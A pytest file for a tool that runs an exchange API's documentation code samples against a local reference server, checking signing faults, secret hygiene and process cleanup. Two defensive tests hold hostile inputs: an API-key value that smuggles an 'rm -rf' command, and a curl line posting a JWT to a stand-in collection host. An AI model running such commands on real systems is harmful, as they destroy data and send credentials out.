"""A page's samples run on the reference; a wrong one is told from a wrong target, none gets out of hand."""

from __future__ import annotations

import io
import json
import os
import re
import time
from collections.abc import Iterator
from contextlib import ExitStack
from pathlib import Path
from typing import Any

import pytest
from docs_pages import PAGES, Original, twin
from rich.console import Console

from conformance.docs.execute import execute
from conformance.docs.parts import PageError, Sample
from conformance.docs.run import run_page
from conformance.docs.samples import fill, repair
from conformance.errors import ConfigError, TargetError
from conformance.record import Exchange, read_rows
from conformance.suite.session import reference_settings
from conformance.target.settings import Settings
from tests.processes import is_alive


@pytest.fixture(scope="module")
def reference() -> Iterator[Settings]:
    with ExitStack() as stack:
        yield reference_settings(stack)


@pytest.fixture(autouse=True)
def at_reference(reference: Settings, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in list(os.environ):
        if name.startswith("SPOT_CONFORMANCE_"):
            monkeypatch.delenv(name)
    monkeypatch.setenv("SPOT_CONFORMANCE_BASE_URL", reference.base_url)
    for name, account in reference.accounts.items():
        for kind in ("jwt", "api_key", "api_secret"):
            monkeypatch.setenv(f"SPOT_CONFORMANCE_{name.upper()}_{kind.upper()}", getattr(account, kind))


class Run:
    """One `docs run` of a text: its status, what it printed, and the exchanges in its record."""

    def __init__(self, text: str, directory: Path, **options: Any) -> None:
        page = directory / "page.txt"
        page.write_text(text, "utf-8")
        out = io.StringIO()
        given = {"report_dir": directory / "report", "timeout": 10.0, **options}
        self.status = run_page(page, given, Console(file=out, width=100))
        self.printed = out.getvalue()
        rows = read_rows(directory / "report" / "record.ndjson")
        self.exchanges = [row for row in rows if isinstance(row, Exchange)]
        self.results = json.loads((directory / "report" / "results.json").read_text())

    @property
    def of_samples(self) -> list[Exchange]:
        return [exchange for exchange in self.exchanges if exchange.driver == "docs"]


def only(text: str, *titles: str) -> str:
    """Take all other samples out of a page's text."""
    head, rest = text.split("\nCode Examples\n", 1)
    parts = re.split(r"(?m)^(cURL \(JWT\)|cURL \(HMAC API Key\)|Python)$", rest)
    kept = "".join(
        f"{title}{code}" for title, code in zip(parts[1::2], parts[2::2], strict=True) if title in titles
    )
    return f"{head}\nCode Examples\n\n{kept}"


def test_all_samples_cancel_their_orders(original: Original, tmp_path: Path) -> None:
    run = Run(original.text, tmp_path)
    assert run.status == 0, run.printed
    assert run.printed.count("✓ ") == 6
    assert "repaired: lost indentation was put back" in run.printed
    cancels = [e for e in run.of_samples if e.op == "cancel_order"]
    assert {e.case for e in cancels} == {
        f"docs::{title}[{state}]"
        for title in ("curl-jwt", "curl-hmac-api-key", "python")
        for state in ("open", "partially-filled")
    }
    assert {e.response.status for e in cancels if e.response} == {200}
    agents = {str(dict(e.request.headers)["user-agent"]).split("/")[0] for e in cancels}
    assert agents == {"curl", "python-requests"}
    verdicts = {row["id"]: row["verdict"] for row in run.results["requirements"]}
    for name in ("by-jwt", "by-api-key", "open", "partially-filled"):
        assert verdicts[f"cancel.success.{name}"] == "held"
    assert verdicts["cancel.effects.terminal"] == "held"


def test_a_sample_is_shown_and_no_secret_is(original: Original, reference: Settings, tmp_path: Path) -> None:
    run = Run(original.text, tmp_path)
    assert run.printed.index("│ curl") < run.printed.index("✓")
    kept = "".join(p.read_text("utf-8") for p in (tmp_path / "report").iterdir() if p.is_file())
    for account in reference.accounts.values():
        for secret in (account.jwt, account.api_key, account.api_secret):
            assert secret
            assert secret not in run.printed
            assert secret not in kept


@pytest.mark.parametrize("suffix", ["md", "html"])
def test_in_the_other_forms_nothing_is_repaired(suffix: str, tmp_path: Path) -> None:
    page, out = PAGES / f"twin.{suffix}", io.StringIO()
    assert run_page(page, {}, Console(file=out, width=100)) == 0, out.getvalue()
    assert "repaired" not in out.getvalue()


WRONG = {
    "another hash": ("-sha256", "-sha512", "HMAC with sha512"),
    "a newline": ("printf '%s' \"$TEXT\"", 'echo "$TEXT"', "a newline is signed as well"),
    "under the key": ('-hmac "$API_SECRET"', '-hmac "$API_KEY"', "the key in place of the secret"),
    "without a secret": (' -hmac "$API_SECRET"', "", "plain SHA-256 without the secret"),
    "in upper case": ("sed 's/^.* //'", "sed 's/^.* //' | tr a-f A-F", "upper case"),
    "only the digits": ('TEXT="timestamp=$NOW"', 'TEXT="$NOW"', "only the timestamp's digits"),
    "in seconds": ("%s%3N", "%s", "in seconds, not in milliseconds"),
    "no signature": ("&signature=$SIG", "", "there is no signature"),
    "the older header": ("X-MBX-APIKEY", "X-API-Key", "the key is in X-API-Key"),
}


@pytest.mark.parametrize("wrong", WRONG)
def test_a_wrong_recipe_is_the_samples_fault_and_named(wrong: str, tmp_path: Path) -> None:
    old, new, named = WRONG[wrong]
    text = only(twin().text, "cURL (HMAC API Key)")
    assert text.count(old) == 1
    run = Run(text.replace(old, new), tmp_path)
    assert run.status == 1
    assert "sample is wrong" in run.printed
    assert named in run.printed
    assert "the target violates" not in run.printed
    sent = [e for e in run.of_samples if e.op == "cancel_order" and e.auth and e.auth.flaw]
    assert sent
    assert {e.response.status for e in sent if e.response} == {401}


MISBEHAVING = {
    "another order": (
        "orders/{order_id}",
        "orders/{order_id[::-1]}",
        "is not DELETE /spot/orders/:id",
    ),
    "all orders": ("/spot/orders/{order_id}", "/spot/orders", "is not DELETE /spot/orders/:id"),
    "placing": ("requests.delete", "requests.post", "asks for POST"),
    "never ending": ("print(cancel(", "while True: pass\nprint(cancel(", "did not end within 2 s"),
    "crashing": ("import requests", "import requests, no_such_module", "No module named 'no_such_module'"),
    "sending nothing": ("print(cancel(", "0 and print(cancel(", "it sent nothing"),
    "failing after the cancel": ('["status"])', '["state"])', "exited with 1 although the order was canceled"),
}


@pytest.mark.parametrize("what", MISBEHAVING)
def test_a_sample_that_does_something_else(what: str, tmp_path: Path) -> None:
    old, new, named = MISBEHAVING[what]
    text = only(twin().text, "Python")
    assert text.count(old) == 1
    run = Run(text.replace(old, new), tmp_path, timeout=2.0)
    assert run.status == 1, run.printed
    assert named in run.printed
    assert {exchange.op for exchange in run.of_samples} <= {"cancel_order"}, "nothing else reaches the target"


def test_a_sample_has_no_secret_in_its_environment(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MY_SECRET_TOKEN", "s3cret")
    for language, code in (("shell", "env; pwd"), ("python", "import os; print(dict(os.environ), os.getcwd())")):
        ended = execute(code, language, 10)
        assert ended.status == 0, ended
        assert "s3cret" not in ended.stdout
        assert "SPOT_CONFORMANCE" not in ended.stdout
        assert str(Path.cwd()) != ended.stdout.strip().splitlines()[-1]
        assert "sample-" in ended.stdout


def test_what_a_sample_started_ends_with_it() -> None:
    ended = execute("sleep 300 & echo $!", "shell", 10)
    assert ended.status == 0
    pid = int(ended.stdout)
    deadline = time.monotonic() + 5
    while is_alive(pid) and time.monotonic() < deadline:
        time.sleep(0.01)
    assert not is_alive(pid)


def test_a_remote_target_needs_permission(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SPOT_CONFORMANCE_BASE_URL", "https://staging.example/api/v1")
    with pytest.raises(ConfigError, match="not this machine"):
        Run(twin().text, tmp_path)


def test_an_unreachable_target(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SPOT_CONFORMANCE_BASE_URL", "http://127.0.0.1:9/api/v1")
    monkeypatch.setattr("conformance.target.venue._ATTEMPTS", 1)
    with pytest.raises(TargetError):
        Run(twin().text, tmp_path)


def test_a_page_without_samples(tmp_path: Path) -> None:
    with pytest.raises(PageError, match="no code samples"):
        Run(twin().text.split("\nCode Examples\n")[0], tmp_path)


def test_other_languages_are_not_exercised(tmp_path: Path) -> None:
    text = only(twin().text, "cURL (JWT)").replace("cURL (JWT)", "Rust")
    run = Run(text, tmp_path)
    assert run.status == 4
    assert "samples in rust are not run" in run.printed


def test_without_a_credential_of_the_samples_scheme(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("SPOT_CONFORMANCE_OWNER_JWT")
    run = Run(only(twin().text, "cURL (JWT)", "Python"), tmp_path)
    assert "the owner account has no jwt" in run.printed
    assert run.status == 0, run.printed


BLOCKS = {
    "one block": ("def f():\nreturn 1\n\nf()", "def f():\n    return 1\n\nf()"),
    "two": (
        "def f():\na = (\n1)\nreturn a\n\ndef g():\nreturn f()\n\ng()",
        "def f():\n    a = (\n    1)\n    return a\n\ndef g():\n    return f()\n\ng()",
    ),
    "a colon inside": ("def f():\nd = {\n'a': 1}\nreturn d\n", "def f():\n    d = {\n    'a': 1}\n    return d"),
}


@pytest.mark.parametrize("block", BLOCKS)
def test_lost_indentation_is_put_back(block: str) -> None:
    lost, whole = BLOCKS[block]
    mended = repair(Sample("Python", "python", lost))
    assert (mended.code, mended.broken) == (whole, None)
    assert len(mended.repairs) == 1


@pytest.mark.parametrize(
    "code",
    [
        "for x in y:\nif x:\nprint(x)\nprint(y)\n",
        "def f():\n  a = 1\nreturn a\n",
        "def f():\n\nreturn 1\n",
        "print(",
        "x = = 1",
    ],
)
def test_what_is_not_certain_is_not_repaired(code: str) -> None:
    mended = repair(Sample("Python", "python", code))
    assert mended.broken is not None
    assert mended.code == code


def test_code_that_is_whole_is_left_alone() -> None:
    code = "def f():\n  return 1\nprint(f())"
    assert repair(Sample("Python", "python", code)).code == code


def test_values_are_quoted() -> None:
    values = {"order": "o", "api_key": "k'; rm -rf x; '", "api_secret": 'a"b'}
    shell = fill('API_KEY="x"\nAPI_SECRET="y"\nprintf %s "$API_KEY|$API_SECRET"', "shell", values, (), "")
    assert execute(shell.code, "shell", 5).stdout == "k'; rm -rf x; '|a\"b"
    python = fill('API_KEY = "x"\nAPI_SECRET = "y"\nprint(API_KEY, API_SECRET, sep="|")', "python", values, (), "")
    assert execute(python.code, "python", 5).stdout == "k'; rm -rf x; '|a\"b\n"


def test_no_address_of_the_page_is_reached() -> None:
    code = 'JWT="x"\nID="y"\ncurl -d "$JWT" https://collect.example/in "https://api.example/v1/spot/orders/$ID"'
    base = "http://127.0.0.1:1/api/v1"
    filled = fill(code, "shell", {"jwt": "t", "order": "o"}, ("https://api.example/v1",), base)
    assert "example" not in filled.code
    assert any("collect.example" in text for text in filled.filled)
